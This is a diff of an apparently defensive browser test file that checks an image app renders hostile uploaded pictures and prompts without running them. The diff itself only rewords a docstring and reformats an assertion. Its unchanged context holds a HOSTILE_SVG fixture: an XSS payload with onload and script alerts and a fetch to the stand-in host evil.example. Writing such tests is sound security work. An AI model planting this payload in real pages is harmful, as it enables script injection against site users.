@@ -33,7 +33,8 @@ REFUSALS = re.compile(
     r"status of 4|^Blocked script execution|violates the following Content Security Policy"
     r"|^Service Worker registration blocked|^Clear-Site-Data header on .* Cleared"
 )
-"""What a browser says when it does not run or load something: our 4xx pages, what our headers and a test forbid; and what it cleared."""
+"""What a browser says when it does not run or load something: our 4xx pages, what our headers or a test forbid; and of
+what a sign-out cleared."""
 
 HOSTILE_SVG = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64"
  height="64" onload="alert(1)"><script>alert(2);fetch("http://evil.example/")</script>
@@ -226,7 +227,9 @@ async def test_hostile_pictures_and_prompts_run_nothing(
         assert alt == HOSTILE_PROMPT
         await page.goto(f"/images/{image_id}")
         assert await page.locator("h1").inner_text() == HOSTILE_PROMPT
-        assert await page.locator("main script, main svg:not(.icon), iframe, object, embed, base").count() == 0
+        assert (
+            await page.locator("main script, main svg:not(.icon), iframe, object, embed, base").count() == 0
+        )
         await page.wait_for_timeout(300)
         await shoot(page, tmp_path, "hostile")
         await page.goto("/?" + urlencode({"owner": HOSTILE_PROMPT}))
